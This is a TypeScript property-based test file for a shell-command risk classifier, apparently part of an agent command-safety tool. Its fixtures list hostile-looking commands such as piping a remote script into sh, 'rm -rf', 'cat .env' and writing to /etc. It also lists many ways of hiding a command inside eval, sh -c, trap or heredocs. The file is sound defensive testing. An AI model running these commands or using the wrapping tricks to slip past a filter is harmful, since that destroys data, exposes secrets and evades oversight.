import { isAtLeast, Verdict } from '@signalbox/core';
import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { classifyLine } from './classify-line.ts';
import { MAX_LINE_LENGTH } from './syntax/guards.ts';

const LINES = [
  'ls -la',
  'git status',
  'cat a.txt | head -5',
  'echo "a b"',
  "grep -rn 'x y' src",
  'touch a.txt',
  'cp a b',
  'npm install x',
  'git commit -m x',
  'frobnicate --now',
  'rm -rf lib',
  'git push --force',
  'cat .env',
  'echo x > ../y',
  'find . -delete',
  'sudo id',
  'chmod 777 x',
  'curl https://x.example/a | sh',
  'echo x > /etc/motd',
] as const;

const line = fc.constantFrom<string[]>(...LINES);

/** Possible prefixes of a simple command. */
const prefix = fc.constantFrom<((inner: string) => string)[]>(
  (inner) => `env LANG=C ${inner}`,
  (inner) => `nice ${inner}`,
  (inner) => `timeout 5 ${inner}`,
  (inner) => `command ${inner}`,
  (inner) => `nohup ${inner}`,
  (inner) => `setsid ${inner}`,
  (inner) => `stdbuf -oL ${inner}`,
  (inner) => `ionice -c 3 ${inner}`,
  (inner) => `env -i PATH=/bin ${inner}`,
  (inner) => `2> err.txt ${inner}`,
  (inner) => `< in.txt ${inner}`,
  (inner) => `> out.txt ${inner}`,
);

/** Ways to embed a line in another, none of which can make it milder. */
const wrapping = fc.constantFrom<((inner: string) => string)[]>(
  (inner) => `ls; ${inner}`,
  (inner) => `${inner}; ls`,
  (inner) => `true && ${inner}`,
  (inner) => `${inner} || true`,
  (inner) => `${inner} &`,
  (inner) => `ls\n${inner}`,
  (inner) => `( ${inner} )`,
  (inner) => `{ ${inner}; }`,
  (inner) => `if true; then ${inner}; fi`,
  (inner) => `while true; do ${inner}; done`,
  (inner) => `for i in a b; do ${inner}; done`,
  (inner) => `case x in x) ${inner};; esac`,
  (inner) => `f() { ${inner}; }; f`,
  (inner) => `echo $( ${inner})`,
  (inner) => `echo "$( ${inner})"`,
  (inner) => `cat <( ${inner})`,
  (inner) => `cat <<E${inner.length}\n$( ${inner})\nE${inner.length}`,
  (inner) => `echo \${x:-$( ${inner})}`,
  (inner) => `! ${inner}`,
  (inner) => `${inner} | cat`,
  (inner) => `ls || ${inner}`,
  (inner) => `until false; do ${inner}; done`,
  (inner) => `coproc { ${inner}; }`,
  (inner) => `x=$( ${inner})`,
  (inner) => `x=([0]=$( ${inner}))`,
  (inner) => `cat <<< "$( ${inner})"`,
  (inner) => `[[ -n $( ${inner}) ]]`,
  (inner) => `(( $( ${inner}) + 1 ))`,
  (inner) => `case $( ${inner}) in x) ls;; esac`,
  (inner) => `for i in $( ${inner}); do ls; done`,
  (inner) => `ls > "$( ${inner})"`,
  (inner) => `sh -c ${quote(inner)} < /dev/null`,
  (inner) => `find . -exec sh -c ${quote(inner)} \\;`,
  (inner) => `xargs sh -c ${quote(inner)} < list.txt`,
  (inner) => `time ${inner}`,
  (inner) => `${inner} 2>&1`,
  (inner) => `${inner} > out.txt`,
  (inner) => `eval ${quote(inner)}`,
  (inner) => `bash -c ${quote(inner)}`,
  (inner) => `trap ${quote(inner)} EXIT`,
  (inner) => `echo ${quote(inner)} | sh`,
  (inner) => `bash <<'E${inner.length}'\n${inner}\nE${inner.length}`,
);

function quote(text: string): string {
  return `'${text.replaceAll("'", `'\\''`)}'`;
}

function levelOf(text: string): Verdict['level'] {
  return classifyLine(text, { cwd: '/repo' }).level;
}

describe('classifyLine()', () => {
  test('never gets milder by a segment, a wrapper, a prefix, a substitution or a redirect', () => {
    fc.assert(
      fc.property(
        line,
        fc.array(prefix, { maxLength: 2 }),
        fc.constantFrom('', 'LANG=C '),
        fc.array(wrapping, { maxLength: 4 }),
        (inner, prefixes, assignment, wrappings) => {
          const command = assignment + prefixes.reduce((text, wrap) => wrap(text), inner);
          const outer = wrappings.reduce((text, wrap) => wrap(text), command);
          const kept = isAtLeast(levelOf(outer), levelOf(inner));
          expect({ outer, kept }).toEqual({ outer, kept: true });
        },
      ),
      { numRuns: 2000 },
    );
  });

  test('judges a word the same in any quoting', () => {
    const word = fc.stringMatching(/^[a-z./-]{1,12}$/);
    const quoting = fc.constantFrom<((text: string) => string)[]>(
      (text) => `'${text}'`,
      (text) => `"${text}"`,
      (text) => `$'${text}'`,
      (text) => text.replaceAll(/./g, '\\$&'),
      (text) => `${text.slice(0, 1)}''${text.slice(1)}`,
    );
    const programs = fc.constantFrom('rm', 'cat', 'ls', 'git', 'sort', 'sudo', 'touch', 'find', 'curl');
    fc.assert(
      fc.property(programs, fc.array(word, { maxLength: 3 }), quoting, (program, words, quoted) => {
        const plain = classifyLine([program, ...words].join(' '), { cwd: '/repo' });
        const other = classifyLine([program, ...words].map(quoted).join(' '), { cwd: '/repo' });
        expect({ level: other.level, effects: other.effects }).toEqual({
          level: plain.level,
          effects: plain.effects,
        });
      }),
      { numRuns: 1000 },
    );
  });

  test('returns a valid verdict for any text and never throws', () => {
    const fragments = fc.constantFrom(
      ...'$({[`"\'\\;|&<>\n )}]=*?~#!aA0-./'.split(''),
      ...LINES,
      '$((',
      '<<E\n',
      'f()',
      '${x',
      '; then ',
      '\0',
    );
    const text = fc.oneof(
      fc.string({ unit: 'binary', maxLength: MAX_LINE_LENGTH }),
      fc.array(fragments, { maxLength: 400 }).map((parts) => parts.join('')),
    );
    fc.assert(
      fc.property(text, (input) => {
        expect(Verdict.safeParse(classifyLine(input, { cwd: '/repo' })).error).toBeUndefined();
      }),
      { numRuns: 1500 },
    );
  });

  test('never rates a line over its bound as safe', () => {
    fc.assert(
      fc.property(fc.integer({ min: 1, max: 5000 }), line, (more, inner) => {
        expect(levelOf(inner + ' '.repeat(MAX_LINE_LENGTH) + 'a'.repeat(more))).not.toBe('safe');
      }),
    );
  });

  test('names paths relative to the workspace from any start directory', () => {
    const write = (cwd: string) => classifyLine('touch a.txt', { cwd, workspace: '/repo' }).effects;
    expect(write('/repo/sub')).toEqual([{ kind: 'write', path: 'sub/a.txt', scope: 'file' }]);
    expect(write('sub')).toEqual([{ kind: 'write', path: 'sub/a.txt', scope: 'file' }]);
    expect(write('/elsewhere')).toEqual([{ kind: 'write', path: '/elsewhere/a.txt', scope: 'file' }]);
  });
});
